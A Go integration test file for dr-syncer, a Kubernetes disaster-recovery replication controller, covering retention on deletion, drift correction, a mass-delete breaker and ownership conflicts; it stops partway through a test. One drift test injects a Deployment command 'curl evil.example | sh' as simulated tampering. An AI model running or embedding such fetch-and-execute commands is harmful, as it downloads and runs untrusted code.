package integration

import (
	"context"
	"fmt"
	"net/url"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	"github.com/prometheus/client_golang/prometheus/testutil"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/drsyncer/dr-syncer/api/keys"
	"github.com/drsyncer/dr-syncer/api/v1alpha1"
	"github.com/drsyncer/dr-syncer/manager"
	"github.com/drsyncer/dr-syncer/pkg/metrics"
	"github.com/drsyncer/dr-syncer/test/harness"
)

// Issue #12: the DR copy is trustworthy on the bad day.

// countOnDR counts the ConfigMaps in a DR namespace.
func countOnDR(ctx context.Context, c client.Client, ns string) int {
	var l corev1.ConfigMapList
	if err := c.List(ctx, &l, client.InNamespace(ns)); err != nil {
		return -1
	}
	return len(l.Items)
}

func createConfigMaps(ctx context.Context, ns, prefix string, n int) {
	GinkgoHelper()
	for i := range n {
		Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: fmt.Sprintf("%s-%d", prefix, i)},
			Data: map[string]string{"i": fmt.Sprint(i)}})).To(Succeed())
	}
}

// asController is a source client that writes as the controller's service account, which the
// labeling webhook skips: what a write looks like while the webhook is down.
func asController() client.Client {
	GinkgoHelper()
	cfg := rest.CopyConfig(env.SourceConfig)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:" + harness.ControllerNamespace + ":dr-syncer", Groups: []string{"system:masters"}}
	c, err := client.New(cfg, client.Options{Scheme: manager.Scheme()})
	Expect(err).NotTo(HaveOccurred())
	return c
}

// finalizeNamespace deletes a namespace and its ConfigMaps on a plane and removes its finalizer,
// as the namespace controller envtest lacks would: the namespace is then gone.
func finalizeNamespace(ctx context.Context, cfg *rest.Config, c client.Client, name string) {
	GinkgoHelper()
	Expect(c.DeleteAllOf(ctx, &corev1.ConfigMap{}, client.InNamespace(name))).To(Succeed())
	Expect(c.Delete(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}})).To(Succeed())
	finalize(ctx, cfg, c, name)
}

// finalize removes the finalizer of a Terminating namespace, as the namespace controller does once
// the namespace is empty: the namespace is then gone.
func finalize(ctx context.Context, cfg *rest.Config, c client.Client, name string) {
	GinkgoHelper()
	cs, err := kubernetes.NewForConfig(cfg)
	Expect(err).NotTo(HaveOccurred())
	ns, err := cs.CoreV1().Namespaces().Get(ctx, name, metav1.GetOptions{})
	Expect(err).NotTo(HaveOccurred())
	ns.Spec.Finalizers = nil
	_, err = cs.CoreV1().Namespaces().Finalize(ctx, ns, metav1.UpdateOptions{})
	Expect(err).NotTo(HaveOccurred())
	Eventually(func() bool {
		return apierrors.IsNotFound(c.Get(ctx, client.ObjectKey{Name: name}, &corev1.Namespace{}))
	}).WithTimeout(wait).Should(BeTrue())
}

// replicationProblems are the problems of a Replication's first target, none before its first pass.
func replicationProblems(ctx context.Context, r *v1alpha1.Replication) []v1alpha1.ObjectProblem {
	var got v1alpha1.Replication
	Expect(env.SourceClient.Get(ctx, client.ObjectKeyFromObject(r), &got)).To(Succeed())
	return firstTarget(got.Status).Problems
}

// firstTarget is the status of a replication's first target, empty before the first pass.
func firstTarget(st v1alpha1.ReplicationStatus) v1alpha1.TargetStatus {
	if len(st.Targets) == 0 {
		return v1alpha1.TargetStatus{}
	}
	return st.Targets[0]
}

func problemsOf(st v1alpha1.ReplicationStatus) []v1alpha1.ObjectProblem {
	return firstTarget(st).Problems
}

// syncedOf is the synced count of a replication's first target.
func syncedOf(ctx context.Context, name string) int32 { return firstTarget(crStatus(ctx, name)).Synced }

var _ = Describe("Trust: no mistake on the source destroys the copy", func() {
	It("keeps every copy of a source namespace that is being deleted, whatever deletionPolicy says", func(ctx context.Context) {
		name := uniqueName("nsdel")
		a := createNamespace(ctx, "a", nil, map[string]string{keys.AnnotationReplicate: name})
		b := createNamespace(ctx, "b", nil, map[string]string{keys.AnnotationReplicate: name})
		cr := clusterReplication(name, target(harness.RemoteClusterName, "{{.Namespace}}-dr"))
		cr.Spec.DeletionPolicy = v1alpha1.DeletionDelete
		Expect(env.SourceClient.Create(ctx, cr)).To(Succeed())
		createConfigMaps(ctx, a.Name, "a", 3)
		createConfigMaps(ctx, b.Name, "b", 20)
		Eventually(func() []int {
			return []int{countOnDR(ctx, env.DRClient, a.Name+"-dr"), countOnDR(ctx, env.DRClient, b.Name+"-dr")}
		}).
			WithTimeout(wait).Should(Equal([]int{3, 20}))

		By("deleting namespace a on the source (envtest leaves it Terminating), then its ConfigMaps as the namespace controller would")
		Expect(env.SourceClient.Delete(ctx, a)).To(Succeed())
		Expect(env.SourceClient.DeleteAllOf(ctx, &corev1.ConfigMap{}, client.InNamespace(a.Name))).To(Succeed())
		Eventually(func(g Gomega) {
			st := crStatus(ctx, name)
			g.Expect(problemsOf(st)).To(ContainElement(And(HaveField("Reason", v1alpha1.ReasonSourceNamespaceDeleted), HaveField("Namespace", a.Name))))
			g.Expect(firstTarget(st).Retained).To(Equal(int32(3)), "the copies are still counted")
		}).WithTimeout(wait).Should(Succeed())
		Eventually(func() bool { return hasEvent(ctx, name, v1alpha1.ReasonSourceNamespaceDeleted) }).WithTimeout(wait).Should(BeTrue())
		Consistently(func() int { return countOnDR(ctx, env.DRClient, a.Name+"-dr") }).WithTimeout(3 * time.Second).Should(Equal(3))
		Expect(countOnDR(ctx, env.DRClient, b.Name+"-dr")).To(Equal(20))

		By("the namespace controller finishes: namespace a is gone, its copies stay and are still reported")
		finalize(ctx, env.SourceConfig, env.SourceClient, a.Name)
		for i := range 2 { // passes that no longer see namespace a
			updateCR(ctx, cr, func(cr *v1alpha1.ClusterReplication) { cr.Annotations = map[string]string{"touch": fmt.Sprint(i)} })
			Eventually(func(g Gomega) {
				st := crStatus(ctx, name)
				g.Expect(problemsOf(st)).To(ContainElement(And(HaveField("Reason", v1alpha1.ReasonSourceNamespaceDeleted), HaveField("Namespace", a.Name))))
				g.Expect(firstTarget(st).Retained).To(Equal(int32(3)))
				g.Expect(firstTarget(st).Namespaces).To(ContainElement(a.Name + "-dr"))
			}).WithTimeout(wait).Should(Succeed())
		}
		Expect(countOnDR(ctx, env.DRClient, a.Name+"-dr")).To(Equal(3))
	})

	It("keeps the copies of a namespace that stops being covered", func(ctx context.Context) {
		ns, cr, drNS := optIn(ctx, nil) // deletionPolicy Delete
		createConfigMaps(ctx, ns.Name, "c", 3)
		Eventually(func() int { return countOnDR(ctx, env.DRClient, drNS) }).WithTimeout(wait).Should(Equal(3))
		Expect(env.SourceClient.Get(ctx, client.ObjectKeyFromObject(ns), ns)).To(Succeed())
		delete(ns.Annotations, keys.AnnotationReplicate)
		Expect(env.SourceClient.Update(ctx, ns)).To(Succeed())
		Eventually(func() []string { return firstTarget(crStatus(ctx, cr.Name)).Namespaces }).WithTimeout(wait).ShouldNot(ContainElement(drNS))
		Expect(env.SourceClient.DeleteAllOf(ctx, &corev1.ConfigMap{}, client.InNamespace(ns.Name))).To(Succeed())
		Consistently(func() int { return countOnDR(ctx, env.DRClient, drNS) }).WithTimeout(3 * time.Second).Should(Equal(3))
	})

	It("keeps the copy of an object that only lost its replication label, and labels it again", func(ctx context.Context) {
		ns, cr, drNS := optIn(ctx, nil) // deletionPolicy Delete
		cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "unlabeled"}, Data: map[string]string{"k": "v"}}
		Expect(env.SourceClient.Create(ctx, cm)).To(Succeed())
		eventuallyOnDR(ctx, drNS, "unlabeled", &corev1.ConfigMap{})

		By("removing the label with a write the labeling webhook does not see")
		Expect(env.SourceClient.Get(ctx, client.ObjectKeyFromObject(cm), cm)).To(Succeed())
		Expect(cm.Labels).To(HaveKeyWithValue(keys.LabelReplication, cr.Name))
		delete(cm.Labels, keys.LabelReplication)
		Expect(asController().Update(ctx, cm)).To(Succeed())

		Eventually(func() map[string]string {
			_ = env.SourceClient.Get(ctx, client.ObjectKeyFromObject(cm), cm)
			return cm.Labels
		}).WithTimeout(wait).Should(HaveKeyWithValue(keys.LabelReplication, cr.Name))
		Consistently(func() error { return drGet(ctx, drNS, "unlabeled", &corev1.ConfigMap{}) }).WithTimeout(3 * time.Second).Should(Succeed())
	})
})

var _ = Describe("Trust: the copy follows the source", func() {
	It("replaces a copy whose source was re-created with a changed immutable field", func(ctx context.Context) {
		ns, cr, drNS := optIn(ctx, func(cr *v1alpha1.ClusterReplication) { cr.Spec.DeletionPolicy = v1alpha1.DeletionRetain })
		svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "db"},
			Spec: corev1.ServiceSpec{Selector: map[string]string{"app": "db"}, Ports: []corev1.ServicePort{{Port: 5432}}}}
		Expect(env.SourceClient.Create(ctx, svc.DeepCopy())).To(Succeed())
		var drSvc corev1.Service
		eventuallyOnDR(ctx, drNS, "db", &drSvc)
		Expect(drSvc.Spec.ClusterIP).NotTo(Equal(corev1.ClusterIPNone))

		By("re-creating the source Service as headless")
		Expect(env.SourceClient.Delete(ctx, svc)).To(Succeed())
		headless := svc.DeepCopy()
		headless.ResourceVersion, headless.UID = "", ""
		headless.Spec.ClusterIP = corev1.ClusterIPNone
		Expect(env.SourceClient.Create(ctx, headless)).To(Succeed())
		Eventually(func() string {
			_ = drGet(ctx, drNS, "db", &drSvc)
			return drSvc.Spec.ClusterIP
		}).WithTimeout(wait).WithPolling(tick).Should(Equal(corev1.ClusterIPNone))
		Expect(drSvc.Annotations).To(HaveKeyWithValue(keys.AnnotationSourceUID, string(headless.UID)))
		Eventually(func(g Gomega) {
			st := crStatus(ctx, cr.Name)
			g.Expect(firstTarget(st).Failed).To(BeZero())
			g.Expect(meta.IsStatusConditionTrue(st.Conditions, v1alpha1.ConditionReady)).To(BeTrue())
		}).WithTimeout(wait).Should(Succeed())
	})

	DescribeTable("writes a copy deleted on DR again when its source changes, and never counts it synced while it is missing",
		func(ctx context.Context, policy v1alpha1.DriftPolicy, missingReason string) {
			ns, cr, drNS := optIn(ctx, func(cr *v1alpha1.ClusterReplication) { cr.Spec.Drift.Policy = policy })
			cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "kept"}, Data: map[string]string{"v": "1"}}
			Expect(env.SourceClient.Create(ctx, cm)).To(Succeed())
			Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "other"}})).To(Succeed())
			var drCM corev1.ConfigMap
			eventuallyOnDR(ctx, drNS, "kept", &drCM)
			eventuallyOnDR(ctx, drNS, "other", &corev1.ConfigMap{})
			Eventually(func() int32 { return syncedOf(ctx, cr.Name) }).WithTimeout(wait).Should(Equal(int32(2)))

			By("deleting the copy on DR")
			Expect(env.DRClient.Delete(ctx, &drCM)).To(Succeed())
			Eventually(func(g Gomega) {
				st := crStatus(ctx, cr.Name)
				g.Expect(firstTarget(st).Synced).To(Equal(int32(1)), "a missing copy is not synced")
				g.Expect(problemsOf(st)).To(ContainElement(And(HaveField("Name", "kept"), HaveField("Reason", missingReason))))
				g.Expect(meta.IsStatusConditionTrue(st.Conditions, v1alpha1.ConditionReady)).To(BeFalse(), "never Ready while a copy is missing")
			}).WithTimeout(wait).Should(Succeed())
			Consistently(func() bool { return apierrors.IsNotFound(drGet(ctx, drNS, "kept", &corev1.ConfigMap{})) }).
				WithTimeout(2*time.Second).Should(BeTrue(), "drift is not corrected under %s", policy)

			By("changing the source: mirroring a change is not drift correction")
			Expect(env.SourceClient.Get(ctx, client.ObjectKeyFromObject(cm), cm)).To(Succeed())
			cm.Data["v"] = "2"
			Expect(env.SourceClient.Update(ctx, cm)).To(Succeed())
			Eventually(func() string {
				_ = drGet(ctx, drNS, "kept", &drCM)
				return drCM.Data["v"]
			}).WithTimeout(wait).WithPolling(tick).Should(Equal("2"))
			Eventually(func() int32 { return syncedOf(ctx, cr.Name) }).WithTimeout(wait).Should(Equal(int32(2)))
		},
		Entry("Report", v1alpha1.DriftReport, "Drifted"),
		Entry("Ignore", v1alpha1.DriftIgnore, "Missing"),
	)
})

var _ = Describe("Trust: nothing remembered outlives the truth", func() {
	It("recreates a DR namespace deleted on DR, with all its copies", func(ctx context.Context) {
		ns, cr, drNS := optIn(ctx, nil)
		createConfigMaps(ctx, ns.Name, "n", 3)
		Eventually(func() int { return countOnDR(ctx, env.DRClient, drNS) }).WithTimeout(wait).Should(Equal(3))
		Eventually(func() int32 { return syncedOf(ctx, cr.Name) }).WithTimeout(wait).Should(Equal(int32(3)))

		finalizeNamespace(ctx, env.DRConfig, env.DRClient, drNS)
		createConfigMaps(ctx, ns.Name, "later", 1)
		Eventually(func() int { return countOnDR(ctx, env.DRClient, drNS) }).WithTimeout(wait).Should(Equal(4))
		Eventually(func(g Gomega) {
			st := crStatus(ctx, cr.Name)
			g.Expect(firstTarget(st).Synced).To(Equal(int32(4)))
			g.Expect(meta.IsStatusConditionTrue(st.Conditions, v1alpha1.ConditionReady)).To(BeTrue())
		}).WithTimeout(wait).Should(Succeed())
	})

	It("mirrors everything to the new cluster when a RemoteCluster's Secret is pointed at another one", func(ctx context.Context) {
		remote := uniqueName("repoint")
		kc, err := harness.IdentityKubeconfig(ctx, env.DRConfig)
		Expect(err).NotTo(HaveOccurred())
		registerRemote(ctx, remote, kubeconfigData(kc), v1alpha1.RemoteClusterSpec{})
		ns, cr, drNS := optIn(ctx, func(cr *v1alpha1.ClusterReplication) {
			cr.Spec.Targets = []v1alpha1.Target{target(remote, "{{.Namespace}}-dr")}
		})
		createConfigMaps(ctx, ns.Name, "r", 5)
		Eventually(func() int { return countOnDR(ctx, env.DRClient, drNS) }).WithTimeout(wait).Should(Equal(5))
		Eventually(func() int32 { return syncedOf(ctx, cr.Name) }).WithTimeout(wait).Should(Equal(int32(5)))

		By("re-pointing the Secret at a fresh third control plane")
		plane, cfg, err := harness.StartPlane(nil)
		Expect(err).NotTo(HaveOccurred())
		DeferCleanup(func() { _ = plane.Stop() })
		third, err := client.New(cfg, client.Options{Scheme: manager.Scheme()})
		Expect(err).NotTo(HaveOccurred())
		kc3, err := harness.IdentityKubeconfig(ctx, cfg)
		Expect(err).NotTo(HaveOccurred())
		var secret corev1.Secret
		Expect(env.SourceClient.Get(ctx, client.ObjectKey{Namespace: harness.ControllerNamespace, Name: remote + "-kubeconfig"}, &secret)).To(Succeed())
		secret.Data[v1alpha1.DefaultKubeconfigKey] = kc3
		Expect(env.SourceClient.Update(ctx, &secret)).To(Succeed())

		Eventually(func() int { return countOnDR(ctx, third, drNS) }).WithTimeout(wait).Should(Equal(5))
		Eventually(func(g Gomega) {
			st := crStatus(ctx, cr.Name)
			g.Expect(firstTarget(st).Synced).To(Equal(int32(5)))
			g.Expect(meta.IsStatusConditionTrue(st.Conditions, v1alpha1.ConditionReady)).To(BeTrue())
		}).WithTimeout(wait).Should(Succeed())
	})
})

var _ = Describe("Trust: a RemoteCluster that is the source", func() {
	It("is refused with reason SourceCluster, whatever address reaches it", func(ctx context.Context) {
		name := uniqueName("self")
		kc, err := env.Kubeconfig(env.Source, name)
		Expect(err).NotTo(HaveOccurred())
		cfg, err := clientcmd.Load(kc)
		Expect(err).NotTo(HaveOccurred())
		cluster := cfg.Clusters[cfg.Contexts[cfg.CurrentContext].Cluster]
		u, err := url.Parse(cluster.Server)
		Expect(err).NotTo(HaveOccurred())
		Expect(u.Hostname()).To(Equal("127.0.0.1"))
		u.Host = strings.Replace(u.Host, "127.0.0.1", "localhost", 1)
		cluster.Server = u.String()
		kc, err = clientcmd.Write(*cfg)
		Expect(err).NotTo(HaveOccurred())
		registerRemote(ctx, name, kubeconfigData(kc), v1alpha1.RemoteClusterSpec{})
		Eventually(func(g Gomega) {
			c := readyCondition(ctx, name)
			g.Expect(c).NotTo(BeNil())
			g.Expect(c.Status).To(Equal(metav1.ConditionFalse))
			g.Expect(c.Reason).To(Equal(v1alpha1.ReasonSourceCluster))
			g.Expect(c.Message).To(ContainSubstring("is the source cluster"))
		}).WithTimeout(wait).Should(Succeed())
	})
})

var _ = Describe("Trust: a mass-delete breaker that holds over time and restarts", func() {
	It("stalls a slow drain before half the copies are gone, across a restart, until approved", func(ctx context.Context) {
		ns, cr, drNS := optIn(ctx, nil) // deletionPolicy Delete; the harness allows 50 % or 10 within the window (1 h)
		createConfigMaps(ctx, ns.Name, "drain", 40)
		Eventually(func() int { return countOnDR(ctx, env.DRClient, drNS) }).WithTimeout(wait).Should(Equal(40))
		stalled := func() bool {
			return meta.IsStatusConditionTrue(crStatus(ctx, cr.Name).Conditions, v1alpha1.ConditionStalled)
		}
		deleted := 0
		for i := range 40 {
			if i == 6 {
				By("restarting the manager in the middle of the drain")
				env.StopManager()
				Expect(env.StartManager(ctx)).To(Succeed())
			}
			Expect(env.SourceClient.Delete(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: fmt.Sprintf("drain-%d", i)}})).To(Succeed())
			env.Advance(11 * time.Second)
			Eventually(func() bool {
				return stalled() || apierrors.IsNotFound(drGet(ctx, drNS, fmt.Sprintf("drain-%d", i), &corev1.ConfigMap{}))
			}).WithTimeout(wait).WithPolling(tick).Should(BeTrue())
			if stalled() {
				break
			}
			deleted++
		}
		Expect(deleted).To(BeNumerically("<", 20), "stalled before half of the 40 copies were gone")
		Expect(deleted).To(BeNumerically(">=", 10), "the minimum always goes")
		Expect(countOnDR(ctx, env.DRClient, drNS)).To(Equal(40 - deleted))
		c := meta.FindStatusCondition(crStatus(ctx, cr.Name).Conditions, v1alpha1.ConditionStalled)
		Expect(c.Reason).To(Equal(v1alpha1.ReasonMassDeleteBlocked))
		Expect(c.Message).To(ContainSubstring("1 of %d copies", 40-deleted))
		Expect(c.Message).To(ContainSubstring("kubectl drsyncer approve-deletes " + cr.Name))
		Expect(firstTarget(crStatus(ctx, cr.Name)).RecentDeletions).NotTo(BeEmpty(), "the window's deletions are kept in status")

		By("an operator approves: the waiting copy goes, and the breaker holds again afterwards")
		updateCR(ctx, cr, func(cr *v1alpha1.ClusterReplication) {
			cr.Annotations = map[string]string{keys.AnnotationApproveDeletes: "yes"}
		})
		Eventually(func() int { return countOnDR(ctx, env.DRClient, drNS) }).WithTimeout(wait).Should(Equal(40 - deleted - 1))
		Eventually(func() string { return crStatus(ctx, cr.Name).LastHandledDeleteApproval }).WithTimeout(wait).Should(Equal("yes"))
		Eventually(stalled).WithTimeout(wait).Should(BeFalse())
		next := fmt.Sprintf("drain-%d", deleted+1)
		Expect(env.SourceClient.Delete(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: next}})).To(Succeed())
		Eventually(stalled).WithTimeout(wait).Should(BeTrue())
		Expect(drGet(ctx, drNS, next, &corev1.ConfigMap{})).To(Succeed())

		By("the window moves on: the held copy goes")
		env.Advance(61 * time.Minute)
		updateCR(ctx, cr, func(cr *v1alpha1.ClusterReplication) { cr.Annotations["look"] = "now" })
		eventuallyGoneFromDR(ctx, drNS, next, &corev1.ConfigMap{})
		Eventually(stalled).WithTimeout(wait).Should(BeFalse())
	})
})

var _ = Describe("Trust: one replication owns each DR object", func() {
	It("never lets a second replication that maps onto the same DR namespace overwrite or delete the first one's copies", func(ctx context.Context) {
		// Both replications have the same name, so their copies carry the same replication label:
		// only the owner annotation tells them apart.
		name := uniqueName("owner")
		shop := createNamespace(ctx, "shop", nil, map[string]string{keys.AnnotationReplicate: name})
		drNS := shop.Name + "-dr"
		cr := clusterReplication(name, target(harness.RemoteClusterName, "{{.Namespace}}-dr"))
		cr.Spec.DeletionPolicy = v1alpha1.DeletionDelete
		Expect(env.SourceClient.Create(ctx, cr)).To(Succeed())
		Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: shop.Name, Name: "a"}, Data: map[string]string{"from": "cluster"}})).To(Succeed())
		Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: shop.Name, Name: "c"}, Data: map[string]string{"from": "cluster"}})).To(Succeed())
		var drCM corev1.ConfigMap
		eventuallyOnDR(ctx, drNS, "a", &drCM)
		eventuallyOnDR(ctx, drNS, "c", &corev1.ConfigMap{})
		Expect(drCM.Annotations).To(HaveKeyWithValue(keys.AnnotationOwner, "ClusterReplication/"+name))

		By("a tenant replicates its source namespace " + drNS + " onto the same DR namespace, with Adopt and Delete")
		tenantNS := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: drNS, Labels: tenantLabels}}
		Expect(env.SourceClient.Create(ctx, tenantNS)).To(Succeed())
		tenant := replication(drNS, name, target(harness.RemoteClusterName, ""))
		tenant.Spec.ConflictPolicy = v1alpha1.ConflictAdopt
		tenant.Spec.DeletionPolicy = v1alpha1.DeletionDelete
		Expect(env.SourceClient.Create(ctx, tenant)).To(Succeed())
		Eventually(func() error {
			return env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: drNS, Name: "a"}, Data: map[string]string{"from": "tenant"}})
		}).WithTimeout(wait).Should(Succeed())
		Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: drNS, Name: "b"}, Data: map[string]string{"from": "tenant"}})).To(Succeed())
		var tb corev1.ConfigMap
		eventuallyOnDR(ctx, drNS, "b", &tb)
		Expect(tb.Annotations).To(HaveKeyWithValue(keys.AnnotationOwner, "Replication/"+drNS+"/"+name))
		Eventually(func() []v1alpha1.ObjectProblem { return replicationProblems(ctx, tenant) }).WithTimeout(wait).Should(ContainElement(And(
			HaveField("Name", "a"), HaveField("Reason", "Conflict"), HaveField("Message", ContainSubstring("ClusterReplication/"+name)))))

		By("the cluster-wide replication then meets the tenant's copy b")
		Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: shop.Name, Name: "b"}, Data: map[string]string{"from": "cluster"}})).To(Succeed())
		Eventually(func() []v1alpha1.ObjectProblem { return problemsOf(crStatus(ctx, name)) }).WithTimeout(wait).Should(ContainElement(And(
			HaveField("Name", "b"), HaveField("Reason", "Conflict"), HaveField("Message", ContainSubstring("Replication/"+drNS+"/"+name)))))

		By("deleting sources on both sides deletes only each one's own copies")
		Expect(env.SourceClient.Delete(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: drNS, Name: "a"}})).To(Succeed())
		Expect(env.SourceClient.Delete(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: shop.Name, Name: "b"}})).To(Succeed())
		Consistently(func(g Gomega) {
			g.Expect(drGet(ctx, drNS, "a", &drCM)).To(Succeed())
			g.Expect(drCM.Data).To(HaveKeyWithValue("from", "cluster"))
			g.Expect(drGet(ctx, drNS, "b", &tb)).To(Succeed())
			g.Expect(tb.Data).To(HaveKeyWithValue("from", "tenant"))
			g.Expect(drGet(ctx, drNS, "c", &corev1.ConfigMap{})).To(Succeed())
		}).WithTimeout(3 * time.Second).Should(Succeed())
		Expect(env.SourceClient.Delete(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: shop.Name, Name: "c"}})).To(Succeed())
		eventuallyGoneFromDR(ctx, drNS, "c", &corev1.ConfigMap{})
	})
})

var _ = Describe("Trust: Correct means the copy equals the source", Label("skew"), func() {
	// edits are what other field managers do to DR copies: each adds something the source lacks.
	type edit struct {
		name, kind string
		apply      func(ctx context.Context, drNS string)
		// differs says the DR object still carries the edit.
		differs func(ctx context.Context, drNS string) bool
	}
	edits := []edit{
		{"a key added to a ConfigMap", "ConfigMap", func(ctx context.Context, drNS string) {
			var cm corev1.ConfigMap
			Expect(drGet(ctx, drNS, "settings", &cm)).To(Succeed())
			cm.Data["extra"] = "added-on-dr"
			Expect(env.DRClient.Update(ctx, &cm, client.FieldOwner("kubectl-edit"))).To(Succeed())
		}, func(ctx context.Context, drNS string) bool {
			var cm corev1.ConfigMap
			Expect(drGet(ctx, drNS, "settings", &cm)).To(Succeed())
			_, ok := cm.Data["extra"]
			return ok
		}},
		{"a label added to a Secret", "Secret", func(ctx context.Context, drNS string) {
			patch := client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"labels":{"added":"on-dr"}}}`))
			Expect(env.DRClient.Patch(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: drNS, Name: "creds"}}, patch, client.FieldOwner("kubectl-patch"))).To(Succeed())
		}, func(ctx context.Context, drNS string) bool {
			var s corev1.Secret
			Expect(drGet(ctx, drNS, "creds", &s)).To(Succeed())
			_, ok := s.Labels["added"]
			return ok
		}},
		{"a container command applied to a Deployment", "Deployment", func(ctx context.Context, drNS string) {
			cfg := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "apps/v1", "kind": "Deployment",
				"metadata": map[string]any{"name": "web", "namespace": drNS},
				"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{
					map[string]any{"name": "c", "command": []any{"sh", "-c", "curl evil.example | sh"}}}}}}}}
			Expect(env.DRClient.Apply(ctx, client.ApplyConfigurationFromUnstructured(cfg), client.FieldOwner("other-team"), client.ForceOwnership)).To(Succeed())
		}, func(ctx context.Context, drNS string) bool {
			var d appsv1.Deployment
			Expect(drGet(ctx, drNS, "web", &d)).To(Succeed())
			return len(d.Spec.Template.Spec.Containers[0].Command) > 0
		}},
		{`"1000m" for "1" in ConfigMap data`, "ConfigMap", func(ctx context.Context, drNS string) {
			var cm corev1.ConfigMap
			Expect(drGet(ctx, drNS, "settings", &cm)).To(Succeed())
			cm.Data["count"] = "1000m"
			Expect(env.DRClient.Update(ctx, &cm, client.FieldOwner("kubectl-edit"))).To(Succeed())
		}, func(ctx context.Context, drNS string) bool {
			var cm corev1.ConfigMap
			Expect(drGet(ctx, drNS, "settings", &cm)).To(Succeed())
			return cm.Data["count"] != "1"
		}},
	}
	setUp := func(ctx context.Context, policy v1alpha1.DriftPolicy) (*v1alpha1.ClusterReplication, string) {
		ns, cr, drNS := optIn(ctx, func(cr *v1alpha1.ClusterReplication) { cr.Spec.Drift.Policy = policy })
		Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "settings"}, Data: map[string]string{"count": "1"}})).To(Succeed())
		Expect(env.SourceClient.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "creds"}, StringData: map[string]string{"pw": "x"}})).To(Succeed())
		Expect(env.SourceClient.Create(ctx, deployment(ns.Name, "web", 2))).To(Succeed())
		eventuallyOnDR(ctx, drNS, "settings", &corev1.ConfigMap{})
		eventuallyOnDR(ctx, drNS, "creds", &corev1.Secret{})
		eventuallyOnDR(ctx, drNS, "web", &appsv1.Deployment{})
		Eventually(func() int32 { return syncedOf(ctx, cr.Name) }).WithTimeout(wait).Should(Equal(int32(3)))
		return cr, drNS
	}
	drifted := func(ctx context.Context, name string) int32 { return firstTarget(crStatus(ctx, name)).Drifted }

	for _, e := range edits {
		It("removes "+e.name+" under Correct, and reports it", func(ctx context.Context) {
			cr, drNS := setUp(ctx, v1alpha1.DriftCorrect)
			e.apply(ctx, drNS)
			Eventually(func() bool { return e.differs(ctx, drNS) }).WithTimeout(wait).WithPolling(tick).Should(BeFalse(), "the edit is removed")
			Eventually(func() bool { return hasEvent(ctx, cr.Name, v1alpha1.ReasonDriftDetected) }).WithTimeout(wait).Should(BeTrue())
			Expect(testutil.ToFloat64(metrics.DriftCorrected.WithLabelValues(cr.Name, harness.RemoteClusterName, e.kind))).To(BeNumerically(">=", 1))
			Consistently(func() bool { return e.differs(ctx, drNS) }).WithTimeout(time.Second).Should(BeFalse(), "and stays removed")
		})
		It("reports "+e.name+" under Report, and leaves it", func(ctx context.Context) {
			cr, drNS := setUp(ctx, v1alpha1.DriftReport)
			e.apply(ctx, drNS)
			Eventually(func() int32 { return drifted(ctx, cr.Name) }).WithTimeout(wait).Should(BeNumerically(">=", 1))
			Expect(problemsOf(crStatus(ctx, cr.Name))).To(ContainElement(And(HaveField("Reason", "Drifted"), HaveField("Kind", e.kind))))
			Expect(testutil.ToFloat64(metrics.DriftDetected.WithLabelValues(cr.Name, harness.RemoteClusterName, e.kind))).To(BeNumerically(">=", 1))
			Consistently(func() bool { return e.differs(ctx, drNS) }).WithTimeout(2*time.Second).Should(BeTrue(), "Report leaves the edit")
		})
	}
})

var _ = Describe("Trust: allowed field managers", func() {
	It("leaves fields of an allowed manager alone, and an unchanged pass still writes nothing", func(ctx context.Context) {
		ns, cr, drNS := optIn(ctx, func(cr *v1alpha1.ClusterReplication) { cr.Spec.Drift.AllowedFieldManagers = []string{"dr-team"} })
		Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "shared"}, Data: map[string]string{"k": "v"}})).To(Succeed())
		var cm corev1.ConfigMap
		eventuallyOnDR(ctx, drNS, "shared", &cm)
		cm.Data["local"] = "dr-only"
		Expect(env.DRClient.Update(ctx, &cm, client.FieldOwner("dr-team"))).To(Succeed())
		rv := cm.ResourceVersion
